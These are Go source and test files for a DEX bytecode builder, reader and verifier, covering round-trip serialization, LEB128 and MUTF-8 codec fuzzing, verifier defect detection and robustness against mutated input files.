		t.Fatalf("streamed output differs from buffered output (%d vs %d bytes)",
			buf.Len(), len(want))
	}
	if _, err := Read(buf.Bytes()); err != nil {
		t.Fatalf("streamed output does not parse: %v", err)
	}
}

// TestWriteStreamNonASCII covers the MUTF-8 string path and static values.
func TestWriteStreamNonASCII(t *testing.T) {
	b := NewBuilder()
	cls := b.Class("Lu/Ü;", AccPublic, "Ljava/lang/Object;")
	v := StringValue(b.String("héllo — ✓ \U0001F600"))
	cls.StaticField("GREETING", "Ljava/lang/String;", AccPublic|AccFinal, &v)
	f, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	want, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := f.WriteStream(&buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Fatal("streamed output differs for non-ASCII strings")
	}
}

// TestWriteStreamMultiWindow forces the windowed writer through several
// flushes: one method body alone exceeds streamWindow.
func TestWriteStreamMultiWindow(t *testing.T) {
	b := NewBuilder()
	cls := b.Class("Lbig/C;", AccPublic, "Ljava/lang/Object;")
	var asm bytecode.Assembler
	for i := 0; i < 5*streamWindow/4; i++ { // nops are 2 bytes: ~2.5 windows
		asm.Nop()
	}
	asm.ReturnVoid()
	insns, err := asm.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	cls.DirectMethod("huge", "V", nil, AccPublic|AccStatic, &Code{
		RegistersSize: 1, Insns: insns,
	})
	f, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	want, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	if len(want) < 2*streamWindow {
		t.Fatalf("test file too small to exercise windowing: %d bytes", len(want))
	}
	var buf bytes.Buffer
	n, err := f.WriteStream(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != int64(len(want)) || !bytes.Equal(buf.Bytes(), want) {
		t.Fatalf("streamed output differs (%d vs %d bytes)", buf.Len(), len(want))
	}
}

type failAfterWriter struct {
	n int
}

func (w *failAfterWriter) Write(p []byte) (int, error) {
	if w.n -= len(p); w.n < 0 {
		return 0, errors.New("sink full")
	}
	return len(p), nil
}

func TestWriteStreamSinkError(t *testing.T) {
	f := buildSampleFile(t)
	if _, err := f.WriteStream(&failAfterWriter{n: 64}); err == nil {
		t.Fatal("expected sink error to propagate")
	}
}
