package dex

import (
	"bytes"
	"testing"
	"unicode/utf8"
)

// FuzzLEB128 checks the LEB128 codecs: encode-decode round-trips for both
// the unsigned and signed variants, and decoding of arbitrary bytes never
// panics (it must either fail or re-encode consistently).
func FuzzLEB128(f *testing.F) {
	f.Add(uint32(0), int32(0), []byte{})
	f.Add(uint32(1), int32(-1), []byte{0x80})
	f.Add(uint32(127), int32(64), []byte{0xff, 0xff, 0xff, 0xff, 0x7f})
	f.Add(uint32(128), int32(-128), []byte{0x80, 0x80, 0x80, 0x80, 0x80, 0x00})
	f.Add(^uint32(0), int32(-1 << 31), []byte{0xe5, 0x8e, 0x26})
	f.Fuzz(func(t *testing.T, u uint32, s int32, raw []byte) {
		// Unsigned round-trip.
		enc := appendULEB128(nil, u)
		if len(enc) > 5 {
			t.Fatalf("uleb128(%d) is %d bytes, max 5", u, len(enc))
		}
		got, off, err := readULEB128(enc, 0)
		if err != nil || got != u || off != len(enc) {
			t.Fatalf("uleb128 round trip: %d -> %v -> (%d, %d, %v)", u, enc, got, off, err)
		}

		// Signed round-trip.
		senc := appendSLEB128(nil, s)
		if len(senc) > 5 {
			t.Fatalf("sleb128(%d) is %d bytes, max 5", s, len(senc))
		}
		sgot, soff, err := readSLEB128(senc, 0)
		if err != nil || sgot != s || soff != len(senc) {
			t.Fatalf("sleb128 round trip: %d -> %v -> (%d, %d, %v)", s, senc, sgot, soff, err)
		}

		// Arbitrary bytes must decode without panicking, and a successful
		// decode must never read past the terminating byte.
		if v, off, err := readULEB128(raw, 0); err == nil {
			if off < 1 || off > len(raw) || off > 5 {
				t.Fatalf("readULEB128(%v) consumed %d bytes", raw, off)
			}
			// Canonical re-encoding decodes to the same value.
			re := appendULEB128(nil, v)
			back, _, err := readULEB128(re, 0)
			if err != nil || back != v {
				t.Fatalf("re-encode of %d failed: %v %v", v, back, err)
			}
		}
		if v, off, err := readSLEB128(raw, 0); err == nil {
			if off < 1 || off > len(raw) || off > 5 {
				t.Fatalf("readSLEB128(%v) consumed %d bytes", raw, off)
			}
			re := appendSLEB128(nil, v)
			back, _, err := readSLEB128(re, 0)
			if err != nil || back != v {
				t.Fatalf("re-encode of %d failed: %v %v", v, back, err)
			}
		}
	})
}

// FuzzMUTF8 checks the Modified-UTF-8 codec: any Go string survives an
// encode-decode round trip (modulo U+FFFD normalization of invalid UTF-8,
// exactly as utf16.Encode performs it), and decoding arbitrary bytes never
// panics; when it succeeds, the decoded string is a fixed point of the
// codec.
func FuzzMUTF8(f *testing.F) {
	f.Add("", []byte{})
	f.Add("hello", []byte{0xc0, 0x80})
	f.Add("Lcom/example/Main;", []byte{0xe0, 0xa0, 0x80})
	f.Add("nul\x00embedded", []byte{0xed, 0xa0, 0x80}) // lone high surrogate
	f.Add("é世\U0001F600", []byte{0xff, 0xfe})
	f.Fuzz(func(t *testing.T, s string, raw []byte) {
		data, utf16Len := encodeMUTF8(s)
		if bytes.IndexByte(data, 0) >= 0 {
			t.Fatalf("encodeMUTF8(%q) contains a raw NUL", s)
		}
		decoded, err := decodeMUTF8(data)
		if err != nil {
			t.Fatalf("decodeMUTF8(encodeMUTF8(%q)) failed: %v", s, err)
		}
		if utf8.ValidString(s) && decoded != s {
			t.Fatalf("round trip of valid UTF-8 %q gave %q", s, decoded)
		}
		// Whatever normalization happened, re-encoding is stable.
		data2, utf16Len2 := encodeMUTF8(decoded)
		if !bytes.Equal(data, data2) || utf16Len != utf16Len2 {
			t.Fatalf("re-encode of %q unstable: %v/%d vs %v/%d",
				s, data, utf16Len, data2, utf16Len2)
		}

		// Arbitrary bytes: decode must not panic; on success the decoded
		// string must be a fixed point.
		u, err := decodeMUTF8(raw)
		if err != nil {
			return
		}
		if !utf8.ValidString(u) {
			t.Fatalf("decodeMUTF8(%v) produced invalid UTF-8 %q", raw, u)
		}
		enc, _ := encodeMUTF8(u)
		u2, err := decodeMUTF8(enc)
		if err != nil || u2 != u {
			t.Fatalf("decoded string %q is not a codec fixed point: %q, %v", u, u2, err)
		}
	})
}
