package dex

import (
	"strings"
	"testing"

	"dexlego/internal/bytecode"
)

func TestVerifyCleanFile(t *testing.T) {
	f := buildSampleFile(t)
	if errs := Verify(f); len(errs) != 0 {
		t.Errorf("clean file reported %d defects: %v", len(errs), errs)
	}
}

func mustAsm(t *testing.T, build func(a *bytecode.Assembler)) []uint16 {
	t.Helper()
	var a bytecode.Assembler
	build(&a)
	insns, err := a.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	return insns
}

// rawFile assembles a file bypassing Builder.Finish so defects survive.
func rawFile(t *testing.T, code *Code) *File {
	t.Helper()
	b := NewBuilder()
	cb := b.Class("Lv/C;", AccPublic, "Ljava/lang/Object;")
	cb.DirectMethod("f", "V", nil, AccPublic|AccStatic, code)
	f, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestVerifyFindsDefects(t *testing.T) {
	cases := []struct {
		name string
		code *Code
		want string
	}{
		{
			"register overflow",
			&Code{RegistersSize: 1, Insns: mustAsm(t, func(a *bytecode.Assembler) {
				a.Const(5, 1) // v5 in a 1-register frame
				a.ReturnVoid()
			})},
			"exceeds registers_size",
		},
		{
			"fall off the end",
			&Code{RegistersSize: 2, Insns: mustAsm(t, func(a *bytecode.Assembler) {
				a.Const(0, 1)
			})},
			"fall off the end",
		},
		{
			"ins exceed registers",
			&Code{RegistersSize: 1, InsSize: 3, Insns: mustAsm(t, func(a *bytecode.Assembler) {
				a.ReturnVoid()
			})},
			"ins 3 exceed registers",
		},
		{
			"try range overflow",
			&Code{
				RegistersSize: 2,
				Insns: mustAsm(t, func(a *bytecode.Assembler) {
					a.ReturnVoid()
				}),
				Tries: []Try{{Start: 0, Count: 99, CatchAll: 0}},
			},
			"exceeds body",
		},
		{
			"handler into the void",
			&Code{
				RegistersSize: 2,
				Insns: mustAsm(t, func(a *bytecode.Assembler) {
					a.Const(0, 1)
					a.ReturnVoid()
				}),
				Tries: []Try{{Start: 0, Count: 1, CatchAll: 55}},
			},
			"not an instruction start",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := rawFile(t, tc.code)
			errs := Verify(f)
			found := false
			for _, err := range errs {
				if strings.Contains(err.Error(), tc.want) {
					found = true
				}
			}
			if !found {
				t.Errorf("defect %q not reported; got %v", tc.want, errs)
			}
		})
	}
}

func TestVerifyBranchIntoMidInstruction(t *testing.T) {
	// A hand-crafted branch landing in the middle of a 2-unit instruction.
	insns := []uint16{
		uint16(bytecode.OpIfEqz), 2, // if-eqz v0, +2 -> lands at pc 2
		0x000e, // return-void at pc 2 is FINE; craft a worse one below
	}
	// Make pc 2 the second unit of a const/16 instead.
	insns = []uint16{
		uint16(bytecode.OpIfEqz), 3, // branch to pc 3 = middle of const/16
		uint16(bytecode.OpConst16), 7, // pc 2..3
		0x000e, // pc 4
	}
	f := rawFile(t, &Code{RegistersSize: 2, Insns: insns})
	errs := Verify(f)
	found := false
	for _, err := range errs {
		if strings.Contains(err.Error(), "not an instruction start") {
			found = true
		}
	}
	if !found {
		t.Errorf("mid-instruction branch not reported: %v", errs)
	}
}
