package dex

import (
	"crypto/sha1"
	"hash/adler32"
	"math/rand"
	"reflect"
	"strings"
	"testing"

	"dexlego/internal/bytecode"
)

// buildSampleFile constructs a small but representative application: two
// classes with a hierarchy, static and instance fields, try/catch, a switch
// and cross-class calls.
func buildSampleFile(t *testing.T) *File {
	t.Helper()
	b := NewBuilder()

	main := b.Class("Lcom/test/Main;", AccPublic, "Landroid/app/Activity;")
	main.SourceFile("Main.java")
	phone := StringValue(b.String("800-123-456"))
	main.StaticField("PHONE", "Ljava/lang/String;", AccPrivate|AccFinal, &phone)
	main.InstanceField("count", "I", AccPrivate)

	getData := b.Method("Lcom/test/Main;", "getSensitiveData", "Ljava/lang/String;")
	sink := b.Method("Lcom/test/Main;", "sink", "V", "Ljava/lang/String;")

	var asm bytecode.Assembler
	asm.Invoke(bytecode.OpInvokeVirtual, getData, 2) // p0 in v2
	asm.MoveResultObject(0)
	asm.Const(1, 0)
	asm.Label("loop")
	asm.BinopLit8(bytecode.OpAddIntLit8, 1, 1, 1)
	asm.Const(3, 2)
	asm.If(bytecode.OpIfLt, 1, 3, "loop")
	asm.Invoke(bytecode.OpInvokeVirtual, sink, 2, 0)
	asm.ReturnVoid()
	insns, err := asm.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	main.VirtualMethod("advancedLeak", "V", nil, AccPublic, &Code{
		RegistersSize: 4, InsSize: 1, OutsSize: 2, Insns: insns,
	})
	main.NativeMethod("bytecodeTamper", "V", []string{"I"}, AccPublic)

	var asm2 bytecode.Assembler
	asm2.Const(0, 0)
	asm2.SparseSwitch(1, []int32{2, 9}, []string{"two", "nine"})
	asm2.Label("out")
	asm2.Return(0)
	asm2.Label("two")
	asm2.Const(0, 20)
	asm2.Goto("out")
	asm2.Label("nine")
	asm2.Const(0, 90)
	asm2.Goto("out")
	insns2, err := asm2.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	helper := b.Class("Lcom/test/Helper;", AccPublic, "Ljava/lang/Object;")
	helper.DirectMethod("lookup", "I", []string{"I"}, AccPublic|AccStatic, &Code{
		RegistersSize: 2, InsSize: 1,
		Insns: insns2,
		Tries: []Try{{
			Start: 0, Count: uint32(len(insns2)),
			Handlers: []TypeAddr{{Type: b.Type("Ljava/lang/Exception;"), Addr: 4}},
			CatchAll: 0,
		}},
	})
	// A subclass defined before its superclass to exercise topo-sorting.
	b.Class("Lcom/test/Sub;", AccPublic, "Lcom/test/Helper;")

	f, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestWriteReadRoundTrip(t *testing.T) {
	f := buildSampleFile(t)
	data, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	if string(data[:8]) != Magic {
		t.Fatalf("bad magic %q", data[:8])
	}
	got, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(f.Strings, got.Strings) {
		t.Errorf("strings differ:\n%v\n%v", f.Strings, got.Strings)
	}
	if !reflect.DeepEqual(f.Types, got.Types) {
		t.Errorf("types differ")
	}
	if !reflect.DeepEqual(f.Protos, got.Protos) {
		t.Errorf("protos differ:\n%+v\n%+v", f.Protos, got.Protos)
	}
	if !reflect.DeepEqual(f.Fields, got.Fields) {
		t.Errorf("fields differ")
	}
	if !reflect.DeepEqual(f.Methods, got.Methods) {
		t.Errorf("methods differ")
	}
	if len(f.Classes) != len(got.Classes) {
		t.Fatalf("class count %d != %d", len(got.Classes), len(f.Classes))
	}
	for i := range f.Classes {
		want, have := f.Classes[i], got.Classes[i]
		if !reflect.DeepEqual(want, have) {
			t.Errorf("class %d differs:\nwant %+v\ngot  %+v", i, want, have)
		}
	}
	// Re-serialization must be byte-identical (deterministic writer).
	data2, err := got.Write()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(data, data2) {
		t.Error("writer is not deterministic across a read/write cycle")
	}
}

func TestCanonicalSortOrder(t *testing.T) {
	f := buildSampleFile(t)
	for i := 1; i < len(f.Strings); i++ {
		if f.Strings[i-1] >= f.Strings[i] {
			t.Errorf("strings not strictly sorted at %d: %q >= %q",
				i, f.Strings[i-1], f.Strings[i])
		}
	}
	for i := 1; i < len(f.Types); i++ {
		if f.Types[i-1] >= f.Types[i] {
			t.Errorf("types not sorted at %d", i)
		}
	}
	for i := 1; i < len(f.Fields); i++ {
		a, b := f.Fields[i-1], f.Fields[i]
		if a.Class > b.Class || (a.Class == b.Class && a.Name > b.Name) {
			t.Errorf("fields not sorted at %d", i)
		}
	}
	for i := 1; i < len(f.Methods); i++ {
		a, b := f.Methods[i-1], f.Methods[i]
		if a.Class > b.Class || (a.Class == b.Class && a.Name > b.Name) {
			t.Errorf("methods not sorted at %d", i)
		}
	}
	// Superclass must precede subclass.
	helperPos, subPos := -1, -1
	for i := range f.Classes {
		switch f.TypeName(f.Classes[i].Class) {
		case "Lcom/test/Helper;":
			helperPos = i
		case "Lcom/test/Sub;":
			subPos = i
		}
	}
	if helperPos < 0 || subPos < 0 || helperPos > subPos {
		t.Errorf("class defs not topologically sorted: helper %d, sub %d", helperPos, subPos)
	}
}

func TestBytecodeIndicesRemapped(t *testing.T) {
	f := buildSampleFile(t)
	em := f.FindMethod("Lcom/test/Main;", "advancedLeak", "()V")
	if em == nil {
		t.Fatal("advancedLeak not found")
	}
	placed, err := bytecode.DecodeAll(em.Code.Insns)
	if err != nil {
		t.Fatal(err)
	}
	var calls []string
	for _, p := range placed {
		if p.Inst.Op.IsInvoke() {
			calls = append(calls, f.MethodAt(p.Inst.Index).Key())
		}
	}
	want := []string{
		"Lcom/test/Main;->getSensitiveData()Ljava/lang/String;",
		"Lcom/test/Main;->sink(Ljava/lang/String;)V",
	}
	if !reflect.DeepEqual(calls, want) {
		t.Errorf("calls after remap = %v, want %v", calls, want)
	}
}

func TestReadCorruptFiles(t *testing.T) {
	f := buildSampleFile(t)
	data, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	t.Run("truncated", func(t *testing.T) {
		for _, n := range []int{0, 4, 0x20, 0x6f, len(data) / 2} {
			if _, err := Read(data[:n]); err == nil {
				t.Errorf("Read(%d bytes): want error", n)
			}
		}
	})
	t.Run("bad magic", func(t *testing.T) {
		bad := append([]byte(nil), data...)
		bad[0] = 'x'
		if _, err := Read(bad); err == nil {
			t.Error("want error")
		}
	})
	t.Run("flipped body byte", func(t *testing.T) {
		bad := append([]byte(nil), data...)
		bad[len(bad)-3] ^= 0xff
		if _, err := Read(bad); err != ErrChecksum {
			t.Errorf("got %v, want ErrChecksum", err)
		}
	})
	t.Run("flipped checksum", func(t *testing.T) {
		bad := append([]byte(nil), data...)
		bad[8] ^= 0xff
		if _, err := Read(bad); err != ErrChecksum {
			t.Errorf("got %v, want ErrChecksum", err)
		}
	})
}

func TestLookupHelpers(t *testing.T) {
	f := buildSampleFile(t)
	if f.FindClass("Lcom/test/Main;") == nil {
		t.Error("FindClass failed")
	}
	if f.FindClass("Lno/such/Class;") != nil {
		t.Error("FindClass found a ghost")
	}
	if m := f.FindMethod("Lcom/test/Main;", "advancedLeak", ""); m == nil {
		t.Error("FindMethod without signature failed")
	}
	if m := f.FindMethod("Lcom/test/Main;", "advancedLeak", "(I)V"); m != nil {
		t.Error("FindMethod matched wrong signature")
	}
	if got := f.TypeName(NoIndex); got != "<none>" {
		t.Errorf("TypeName(NoIndex) = %q", got)
	}
	cd := f.FindClass("Lcom/test/Main;")
	var phoneVal *Value
	for i, ef := range cd.StaticFields {
		if f.FieldAt(ef.Field).Name == "PHONE" {
			phoneVal = &cd.StaticValues[i]
		}
	}
	if phoneVal == nil || phoneVal.Kind != ValueString {
		t.Fatalf("PHONE static value missing or wrong kind: %+v", phoneVal)
	}
	if got := f.String(phoneVal.Index); got != "800-123-456" {
		t.Errorf("PHONE = %q", got)
	}
	if n := f.InstructionCount(); n < 10 {
		t.Errorf("InstructionCount = %d, want >= 10", n)
	}
	if n := f.MethodCount(); n != 3 {
		t.Errorf("MethodCount = %d, want 3", n)
	}
}

func TestSignatureParsing(t *testing.T) {
	tests := []struct {
		sig    string
		params []string
		ret    string
		ok     bool
	}{
		{"()V", nil, "V", true},
		{"(I)V", []string{"I"}, "V", true},
		{"(Ljava/lang/String;I)Z", []string{"Ljava/lang/String;", "I"}, "Z", true},
		{"([I[Ljava/lang/String;)[B", []string{"[I", "[Ljava/lang/String;"}, "[B", true},
		{"", nil, "", false},
		{"(IV", nil, "", false},
		{"(Ljava/lang/String)V", nil, "", false},
	}
	for _, tt := range tests {
		params, ret, err := ParseSignature(tt.sig)
		if tt.ok != (err == nil) {
			t.Errorf("ParseSignature(%q) err = %v, want ok=%v", tt.sig, err, tt.ok)
			continue
		}
		if !tt.ok {
			continue
		}
		if !reflect.DeepEqual(params, tt.params) || ret != tt.ret {
			t.Errorf("ParseSignature(%q) = %v, %q", tt.sig, params, ret)
		}
	}
}

func TestShorty(t *testing.T) {
	if got := ShortyOf("V", []string{"Ljava/lang/String;", "I", "[B"}); got != "VLIL" {
		t.Errorf("shorty = %q, want VLIL", got)
	}
}

func TestBuilderIdempotentInterning(t *testing.T) {
	b := NewBuilder()
	if b.String("x") != b.String("x") {
		t.Error("String not interned")
	}
	if b.Type("I") != b.Type("I") {
		t.Error("Type not interned")
	}
	if b.Proto("V", "I") != b.Proto("V", "I") {
		t.Error("Proto not interned")
	}
	if b.Field("La;", "f", "I") != b.Field("La;", "f", "I") {
		t.Error("Field not interned")
	}
	if b.Method("La;", "m", "V") != b.Method("La;", "m", "V") {
		t.Error("Method not interned")
	}
	c1 := b.Class("La;", AccPublic, "")
	c2 := b.Class("La;", AccPublic, "")
	if c1.idx != c2.idx {
		t.Error("Class not deduplicated")
	}
	if _, err := b.Finish(); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Finish(); err == nil {
		t.Error("second Finish must fail")
	}
}

func TestBuilderCycleDetection(t *testing.T) {
	b := NewBuilder()
	b.Class("La;", AccPublic, "Lb;")
	b.Class("Lb;", AccPublic, "La;")
	if _, err := b.Finish(); err == nil || !strings.Contains(err.Error(), "cycle") {
		t.Errorf("want cycle error, got %v", err)
	}
}

func TestWriteValidation(t *testing.T) {
	f := &File{Types: []uint32{5}} // string index out of range
	if _, err := f.Write(); err == nil {
		t.Error("want validation error")
	}
	f2 := &File{
		Strings: []string{"I", "La;"},
		Types:   []uint32{0, 1},
		Classes: []ClassDef{{
			Class: 1, Superclass: NoIndex, SourceFile: NoIndex,
			StaticValues: []Value{IntValue(1)},
		}},
	}
	if _, err := f2.Write(); err == nil {
		t.Error("static values without fields: want error")
	}
}

func TestTryCovers(t *testing.T) {
	tr := Try{Start: 4, Count: 6}
	for pc, want := range map[int]bool{3: false, 4: true, 9: true, 10: false} {
		if got := tr.Covers(pc); got != want {
			t.Errorf("Covers(%d) = %v, want %v", pc, got, want)
		}
	}
}

func TestCodeClone(t *testing.T) {
	var nilCode *Code
	if nilCode.Clone() != nil {
		t.Error("nil clone should be nil")
	}
	c := &Code{
		RegistersSize: 3, Insns: []uint16{1, 2},
		Tries: []Try{{Handlers: []TypeAddr{{Type: 1, Addr: 2}}, CatchAll: -1}},
	}
	cl := c.Clone()
	cl.Insns[0] = 99
	cl.Tries[0].Handlers[0].Type = 99
	if c.Insns[0] == 99 || c.Tries[0].Handlers[0].Type == 99 {
		t.Error("Clone shares memory")
	}
}

func TestEmptyFileRoundTrip(t *testing.T) {
	f := &File{}
	data, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Strings)+len(got.Types)+len(got.Classes) != 0 {
		t.Error("empty file round trip not empty")
	}
}

// TestReadHostileMutations flips bytes across the file, repairs the
// checksum and signature so parsing proceeds past the header, and checks
// the reader never panics — it must either error or produce a File.
func TestReadHostileMutations(t *testing.T) {
	f := buildSampleFile(t)
	orig, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	fixup := func(b []byte) {
		sig := sha1.Sum(b[32:])
		copy(b[12:32], sig[:])
		sum := adler32.Checksum(b[12:])
		b[8], b[9], b[10], b[11] = byte(sum), byte(sum>>8), byte(sum>>16), byte(sum>>24)
	}
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 150; trial++ {
		data := append([]byte(nil), orig...)
		for k := 0; k < 1+rng.Intn(4); k++ {
			pos := 32 + rng.Intn(len(data)-32)
			data[pos] ^= byte(1 + rng.Intn(255))
		}
		fixup(data)
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("trial %d: reader panicked: %v", trial, r)
				}
			}()
			if parsed, err := Read(data); err == nil {
				// A tolerated mutation must still be re-serializable or
				// fail cleanly — never panic.
				_, _ = parsed.Write()
				_ = Verify(parsed)
			}
		}()
	}
}
