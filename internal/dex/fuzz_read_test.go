package dex_test

import (
	"testing"

	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// seedDex builds a small but representative DEX through dexgen: two
// classes, static and virtual methods, strings, fields, branches and a
// try/catch, so the fuzzer starts from structurally rich inputs.
func seedDex(f *testing.F) []byte {
	f.Helper()
	p := dexgen.New()
	helper := p.Class("Lfuzz/Helper;", "")
	helper.Static("add", "I", []string{"I", "I"}, func(a *dexgen.Asm) {
		a.Binop(0x90, 0, a.P(0), a.P(1)) // add-int
		a.Return(0)
	})
	cls := p.Class("Lfuzz/Seed;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.ConstString(0, "seed corpus")
		a.Const(1, 2)
		a.InvokeStatic("Lfuzz/Helper;", "add", "(II)I", 1, 1)
		a.MoveResult(1)
		a.IfZ(0x38, 1, "done") // if-eqz
		a.AddLit(1, 1, 3)
		a.Label("done")
		a.ReturnVoid()
	})
	data, err := p.Bytes()
	if err != nil {
		f.Fatal(err)
	}
	return data
}

// FuzzDexRead feeds mutated bytes through dex.Read: parsing must never
// panic, and any input that parses must survive dex.Verify (and a Write
// attempt) without crashing — the exact pipeline a hostile classes.dex
// inside an APK reaches.
func FuzzDexRead(f *testing.F) {
	seed := seedDex(f)
	f.Add(seed)
	f.Add(seed[:len(seed)/2])       // truncated file
	f.Add(seed[len(seed)/4:])       // missing header
	f.Add([]byte{})                 // empty
	f.Add([]byte("dex\n035\x00"))   // bare magic
	f.Add([]byte("dex\n039\x00" + "\x00\x00\x00\x00"))
	corrupt := append([]byte(nil), seed...)
	for i := 0x20; i < 0x40 && i < len(corrupt); i++ {
		corrupt[i] ^= 0xff // scrambled header section offsets
	}
	f.Add(corrupt)
	f.Fuzz(func(t *testing.T, data []byte) {
		parsed, err := dex.Read(data)
		if err != nil {
			return // rejected inputs are fine; panics are not
		}
		// A file that parses must be verifiable and re-serializable
		// without crashing. Both may report errors — hostile input is
		// allowed to be structurally defective — but never panic.
		_ = dex.Verify(parsed)
		_, _ = parsed.Write()
	})
}
