package dex

import (
	"fmt"
	"sort"

	"dexlego/internal/bytecode"
	"dexlego/internal/pipeline"
)

// Builder constructs a DEX file programmatically. Strings, types, protos,
// fields and methods are interned on first use and receive provisional
// indices; Finish sorts every table into the canonical DEX order, remaps all
// cross-references — including index operands inside assembled bytecode —
// and returns the finished File.
type Builder struct {
	file      File
	stringIdx map[string]uint32
	typeIdx   map[string]uint32
	protoIdx  map[string]uint32
	fieldIdx  map[string]uint32
	methodIdx map[string]uint32
	classIdx  map[string]int
	finished  bool
	workers   int
	keyBuf    []byte // scratch for proto/field/method lookup keys
}

// SetWorkers bounds the parallel fan-out Finish uses for bytecode index
// remapping: 0 selects GOMAXPROCS, 1 forces the serial path. Output is
// identical at any worker count.
func (b *Builder) SetWorkers(n int) { b.workers = n }

// NewBuilder returns an empty Builder.
func NewBuilder() *Builder {
	return &Builder{
		stringIdx: make(map[string]uint32),
		typeIdx:   make(map[string]uint32),
		protoIdx:  make(map[string]uint32),
		fieldIdx:  make(map[string]uint32),
		methodIdx: make(map[string]uint32),
		classIdx:  make(map[string]int),
	}
}

// String interns s and returns its provisional string index.
func (b *Builder) String(s string) uint32 {
	if idx, ok := b.stringIdx[s]; ok {
		return idx
	}
	idx := uint32(len(b.file.Strings))
	b.file.Strings = append(b.file.Strings, s)
	b.stringIdx[s] = idx
	return idx
}

// Type interns a type descriptor and returns its provisional type index.
func (b *Builder) Type(descriptor string) uint32 {
	if idx, ok := b.typeIdx[descriptor]; ok {
		return idx
	}
	s := b.String(descriptor)
	idx := uint32(len(b.file.Types))
	b.file.Types = append(b.file.Types, s)
	b.typeIdx[descriptor] = idx
	return idx
}

// Proto interns a prototype and returns its provisional proto index.
//
// Lookup keys here and in Field/Method are built in a reused scratch buffer
// and converted in the map index expression, which the compiler compiles to
// an allocation-free lookup; the key string is materialized only on first
// sight. Interning an already-known symbol — the steady state once the
// constant pool warms up — therefore allocates nothing.
func (b *Builder) Proto(ret string, params ...string) uint32 {
	b.keyBuf = appendProtoKey(b.keyBuf[:0], ret, params)
	if idx, ok := b.protoIdx[string(b.keyBuf)]; ok {
		return idx
	}
	key := string(b.keyBuf)
	p := Proto{
		Shorty: b.String(ShortyOf(ret, params)),
		Return: b.Type(ret),
	}
	for _, t := range params {
		p.Params = append(p.Params, b.Type(t))
	}
	idx := uint32(len(b.file.Protos))
	b.file.Protos = append(b.file.Protos, p)
	b.protoIdx[key] = idx
	return idx
}

// appendProtoKey appends the (params)ret signature-syntax key.
func appendProtoKey(buf []byte, ret string, params []string) []byte {
	buf = append(buf, '(')
	for _, p := range params {
		buf = append(buf, p...)
	}
	buf = append(buf, ')')
	return append(buf, ret...)
}

// Field interns a field reference and returns its provisional field index.
func (b *Builder) Field(class, name, typ string) uint32 {
	buf := append(b.keyBuf[:0], class...)
	buf = append(buf, "->"...)
	buf = append(buf, name...)
	buf = append(buf, ':')
	buf = append(buf, typ...)
	b.keyBuf = buf
	if idx, ok := b.fieldIdx[string(buf)]; ok {
		return idx
	}
	key := string(buf)
	fd := FieldID{Class: b.Type(class), Type: b.Type(typ), Name: b.String(name)}
	idx := uint32(len(b.file.Fields))
	b.file.Fields = append(b.file.Fields, fd)
	b.fieldIdx[key] = idx
	return idx
}

// Method interns a method reference and returns its provisional index.
func (b *Builder) Method(class, name, ret string, params ...string) uint32 {
	buf := append(b.keyBuf[:0], class...)
	buf = append(buf, "->"...)
	buf = append(buf, name...)
	buf = appendProtoKey(buf, ret, params)
	b.keyBuf = buf
	if idx, ok := b.methodIdx[string(buf)]; ok {
		return idx
	}
	// Materialize before Proto below reuses the scratch buffer.
	key := string(buf)
	m := MethodID{Class: b.Type(class), Proto: b.Proto(ret, params...), Name: b.String(name)}
	idx := uint32(len(b.file.Methods))
	b.file.Methods = append(b.file.Methods, m)
	b.methodIdx[key] = idx
	return idx
}

// MethodSig interns a method reference given a (params)ret signature.
//
// The interned-method key Method builds is exactly class->name+sig, so a
// warm call resolves against the method map directly without parsing the
// signature (ParseSignature allocates a params slice); only first-sight
// references pay for the parse.
func (b *Builder) MethodSig(class, name, sig string) (uint32, error) {
	buf := append(b.keyBuf[:0], class...)
	buf = append(buf, "->"...)
	buf = append(buf, name...)
	buf = append(buf, sig...)
	b.keyBuf = buf
	if idx, ok := b.methodIdx[string(buf)]; ok {
		return idx, nil
	}
	params, ret, err := ParseSignature(sig)
	if err != nil {
		return 0, err
	}
	return b.Method(class, name, ret, params...), nil
}

// ClassBuilder accumulates members of one class definition.
type ClassBuilder struct {
	b   *Builder
	idx int
}

// Class starts (or resumes) the definition of a class. The superclass
// descriptor may be empty for java/lang/Object-level roots.
func (b *Builder) Class(descriptor string, flags uint32, super string, interfaces ...string) *ClassBuilder {
	if i, ok := b.classIdx[descriptor]; ok {
		return &ClassBuilder{b: b, idx: i}
	}
	cd := ClassDef{
		Class:       b.Type(descriptor),
		AccessFlags: flags,
		Superclass:  NoIndex,
		SourceFile:  NoIndex,
	}
	if super != "" {
		cd.Superclass = b.Type(super)
	}
	for _, ifc := range interfaces {
		cd.Interfaces = append(cd.Interfaces, b.Type(ifc))
	}
	b.classIdx[descriptor] = len(b.file.Classes)
	b.file.Classes = append(b.file.Classes, cd)
	return &ClassBuilder{b: b, idx: len(b.file.Classes) - 1}
}

